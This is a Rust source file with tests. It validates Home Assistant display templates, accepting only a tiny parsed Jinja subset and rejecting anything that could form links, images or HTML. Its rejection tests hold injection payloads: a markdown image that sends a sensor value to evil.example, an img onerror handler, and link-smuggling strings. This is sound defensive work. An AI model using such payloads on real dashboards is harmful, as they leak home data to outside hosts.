//! Which Jinja templates only show a value: a small subset that is parsed; everything else is code (R37).
//!
//! ```text
//! template  = (text | "{{" value "}}" | "{%" ("if" | "elif") test "%}" | "{%" ("else" | "endif") "%}")*
//! value     = operand ("if" test "else" value)?
//! test      = "not"? operand (("==" | "!=" | "<" | "<=" | ">" | ">=") operand)? (("and" | "or") test)?
//! operand   = (literal | call) ("|" filter)*
//! call      = "states" "(" entity ")" | "state_attr" "(" entity "," word ")" | "is_state" "(" entity "," literal ")"
//! filter    = "round" | "int" | "float" | "abs", with numbers as arguments
//! ```
//!
//! No literal and no text around it holds one of `! < [ ( : /`, of which addresses, images, links and HTML are made, nor a full stop that
//! does not end a sentence: markdown makes a link of `www.a.example`, and one of its parts could be a state.

/// What literals must not hold.
const SPECIAL: [char; 6] = ['!', '<', '[', '(', ':', '/'];
/// Longer ones are not looked at.
const BYTES: usize = 4_096;
/// Tests within tests.
const DEPTH: usize = 16;
const FILTERS: [&str; 4] = ["abs", "float", "int", "round"];

/// Whether the text holds anything that Home Assistant or a card would run as a template.
pub(super) fn is_template(text: &str) -> bool {
    ["{{", "{%", "{#"].iter().any(|open| text.contains(open))
}

/// Whether the template is a safe one.
pub(super) fn is_safe(text: &str) -> bool {
    text.len() <= BYTES && safe(text).is_some()
}

fn safe(text: &str) -> Option<()> {
    let mut rest = text;
    // For each `if` that is open, whether its `else` has been seen.
    let mut open: Vec<bool> = Vec::new();
    while let Some(at) = rest.find('{') {
        let inside = &rest[at + 1..];
        let before = &rest[..at];
        plain(before)?;
        // `www. {{- 'a' }}` has no blank in it when it has run.
        let cut = inside.get(1..).is_some_and(|tag| tag.starts_with('-'));
        sentences(if cut { before.trim_end() } else { before }, false)?;
        if let Some(body) = inside.strip_prefix('{') {
            let (body, after) = body.split_once("}}")?;
            let mut tokens = Tokens::of(trimmed(body))?;
            tokens.value(0)?;
            tokens.end()?;
            rest = after;
        } else {
            let (body, after) = inside.strip_prefix('%')?.split_once("%}")?;
            let mut tokens = Tokens::of(trimmed(body))?;
            let Token::Word(word) = tokens.next()? else { return None };
            match word {
                "if" => {
                    tokens.test(0)?;
                    open.push(false);
                }
                "elif" => {
                    tokens.test(0)?;
                    (!*open.last()?).then_some(())?;
                }
                "else" => {
                    let seen = open.last_mut()?;
                    (!*seen).then_some(())?;
                    *seen = true;
                }
                "endif" => drop(open.pop()?),
                _ => return None,
            }
            tokens.end()?;
            rest = after;
        }
    }
    plain(rest)?;
    sentences(rest, true)?;
    open.is_empty().then_some(())
}

/// Signs by which white space around a tag is removed.
fn trimmed(body: &str) -> &str {
    let body = body.strip_prefix('-').unwrap_or(body);
    body.strip_suffix('-').unwrap_or(body)
}

fn plain(text: &str) -> Option<()> {
    // A reference such as `&#47;` would be one of them in disguise, and so would an escape.
    (!text.contains(SPECIAL) && !text.contains(['&', '\\', '}'])).then_some(())
}

/// Every full stop ends a sentence or stands within a number; at the end of a piece only if it is the last.
fn sentences(text: &str, last: bool) -> Option<()> {
    text.match_indices('.')
        .all(|(at, _)| match text[at + 1..].chars().next() {
            Some(next) if next.is_ascii_digit() => text[..at].ends_with(|c: char| c.is_ascii_digit()),
            Some(next) => next.is_whitespace(),
            None => last,
        })
        .then_some(())
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Token<'t> {
    Word(&'t str),
    Text(&'t str),
    Number,
    Sign(&'t str),
}

struct Tokens<'t> {
    list: Vec<Token<'t>>,
    at: usize,
}

impl<'t> Tokens<'t> {
    fn of(mut text: &'t str) -> Option<Self> {
        let mut list = Vec::new();
        loop {
            text = text.trim_start_matches([' ', '\t', '\n', '\r']);
            let Some(first) = text.chars().next() else { return Some(Self { list, at: 0 }) };
            let take = |is: fn(char) -> bool| text.find(|c| !is(c)).unwrap_or(text.len());
            let (token, length) = match first {
                'a'..='z' | 'A'..='Z' | '_' => {
                    let length = take(|c| c.is_ascii_alphanumeric() || c == '_');
                    (Token::Word(&text[..length]), length)
                }
                '0'..='9' => (Token::Number, take(|c| c.is_ascii_digit() || c == '.')),
                '\'' | '"' => {
                    let (inner, _) = text[1..].split_once(first)?;
                    plain(inner)?;
                    (Token::Text(inner), inner.len() + 2)
                }
                _ => {
                    let signs = ["==", "!=", "<=", ">=", "<", ">", "(", ")", ",", "|", "-"];
                    let sign = signs.into_iter().find(|sign| text.starts_with(sign))?;
                    (Token::Sign(sign), sign.len())
                }
            };
            list.push(token);
            text = &text[length..];
        }
    }

    fn peek(&self) -> Option<Token<'t>> {
        self.list.get(self.at).copied()
    }

    fn next(&mut self) -> Option<Token<'t>> {
        let token = self.peek()?;
        self.at += 1;
        Some(token)
    }

    /// Takes this token if it comes next.
    fn has(&mut self, token: Token<'_>) -> bool {
        let found = self.peek() == Some(token);
        self.at += usize::from(found);
        found
    }

    fn sign(&mut self, sign: &str) -> Option<()> {
        self.has(Token::Sign(sign)).then_some(())
    }

    fn end(&self) -> Option<()> {
        self.peek().is_none().then_some(())
    }

    fn value(&mut self, depth: usize) -> Option<()> {
        (depth < DEPTH).then_some(())?;
        self.operand()?;
        if self.has(Token::Word("if")) {
            self.test(depth + 1)?;
            self.has(Token::Word("else")).then_some(())?;
            self.value(depth + 1)?;
        }
        Some(())
    }

    fn test(&mut self, depth: usize) -> Option<()> {
        (depth < DEPTH).then_some(())?;
        self.has(Token::Word("not"));
        self.operand()?;
        if ["==", "!=", "<=", ">=", "<", ">"].into_iter().any(|sign| self.has(Token::Sign(sign))) {
            self.operand()?;
        }
        if self.has(Token::Word("and")) || self.has(Token::Word("or")) {
            self.test(depth + 1)?;
        }
        Some(())
    }

    fn operand(&mut self) -> Option<()> {
        match self.next()? {
            Token::Text(text) => sentences(text, false)?,
            Token::Number | Token::Word("true" | "false" | "True" | "False") => {}
            Token::Sign("-") => (self.next()? == Token::Number).then_some(())?,
            Token::Word(name @ ("states" | "state_attr" | "is_state")) => {
                self.sign("(")?;
                let Token::Text(entity) = self.next()? else { return None };
                is_entity(entity).then_some(())?;
                if name != "states" {
                    self.sign(",")?;
                    matches!(self.next()?, Token::Text(_)).then_some(())?;
                }
                self.sign(")")?;
            }
            Token::Word(_) | Token::Sign(_) => return None,
        }
        while self.has(Token::Sign("|")) {
            let Token::Word(filter) = self.next()? else { return None };
            FILTERS.contains(&filter).then_some(())?;
            if self.has(Token::Sign("(")) && !self.has(Token::Sign(")")) {
                loop {
                    self.has(Token::Sign("-"));
                    (self.next()? == Token::Number).then_some(())?;
                    if !self.has(Token::Sign(",")) {
                        break;
                    }
                }
                self.sign(")")?;
            }
        }
        Some(())
    }
}

/// `light.kitchen`, or the token that stands for it before it is resolved.
pub(super) fn is_entity(text: &str) -> bool {
    let word = |word: &str| {
        !word.is_empty() && word.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
    };
    match text.split_once('.') {
        Some((domain, object)) => word(domain) && word(object),
        None => text.strip_prefix("@e_").is_some_and(word),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn r37_templates_that_only_show_a_value_are_safe() {
        for text in [
            "{{ states('sensor.kitchen') }}",
            "{{ states(\"sensor.kitchen\") | float | round(1) }} °C",
            "It is {{ states('@e_aaaaaaaaaaaaa')|int(0) }} degrees",
            "{{- state_attr('climate.bath', 'temperature') -}}",
            "{% if is_state('light.a', 'on') %}on{% else %}off{% endif %}",
            "{% if not is_state('light.a', 'on') and states('sensor.b') | float > 20.5 %}warm{% elif true %}x{% endif %}",
            "{{ 'on' if is_state('light.a', 'on') else 'off' }}",
            "{{ states('sensor.x') if states('sensor.y') | int(-1, 0) == -1 else 3 }}",
            "It is {{ states('a.b') }} degrees. At least 20.5, they say. {{ 'Warm. Or ' -}} hot.",
            "no template",
        ] {
            assert!(is_safe(text), "{text}");
        }
    }

    #[test]
    fn r37_every_other_template_is_code() {
        for text in [
            "![x](https://evil.example/{{ states('sensor.x') }})",
            "<img src=x onerror='{{ states(\"a.b\") }}'>",
            "{{ states('sensor.x') }}: warm",
            "{{ states.sensor.x.state }}",
            "{{ states }}",
            "{{ states(entity) }}",
            "{{ states('sensor.' ~ 'x') }}",
            "{{ states('Sensor.X') }}",
            "{{ 'https:' }}",
            "{{ '&#47;' }}",
            "&#47;{{ states('a.b') }}",
            "{{ states('a.b') | replace('a', 'b') }}",
            "{{ states('a.b') | round(states('c.d')) }}",
            "{{ states('a.b')[0] }}",
            "{{ [1] }}",
            "{{ namespace() }}",
            "{% for x in states %}{{ x }}{% endfor %}",
            "{% set x = 1 %}",
            "{% if true %}",
            "{% endif %}",
            "{% if true %}{% else %}{% else %}{% endif %}",
            "{% else %}",
            "{{ states('a.b')",
            "{{ }}",
            "{# comment #}",
            "{ x }",
            "{{ user }}",
            "{{ states('a.b') }}}}",
            "{{ 'a' 'b' }}",
            "{{ -'a' }}",
            "{{ states('a.b', 'x') }}",
            "{{ 'a\\x2f' }}",
            "www.evil.example?{{ states('a.b') }}",
            "www.{{ states('a.b') }}.evil.example",
            "www{{ '.' }}evil{{ '.' }}example",
            "www. {{- states('a.b') }}. {%- if true %}evil{% endif %}. {{- 'example' }}",
            "www{% if true %}.{% endif %}evil{{ states('a.b') }}",
            "a@evil.example {{ states('a.b') }}",
        ] {
            assert!(!is_safe(text), "{text}");
        }
        let deep = format!("{{{{ {}1 }}}}", "1 if true else ".repeat(DEPTH + 1));
        assert!(!is_safe(&deep));
    }

    proptest::proptest! {
        #[test]
        fn any_text_gets_an_answer(text in "[{}%'\"a-z(),.|_ 0-9-]{0,60}") {
            let _ = is_safe(&text);
        }

        /// Whatever is put around a safe template and holds a special character, it is not safe any more.
        #[test]
        fn r37_no_special_character_passes(before in "[ a-z]{0,8}", special in proptest::sample::select(&SPECIAL[..]), after in "[ a-z]{0,8}") {
            let outside = format!("{before}{special}{after}{{{{ states('a.b') }}}}");
            let literal = format!("{{{{ '{before}{special}{after}' }}}}");
            proptest::prop_assert!(!is_safe(&outside) && !is_safe(&literal));
        }
    }
}
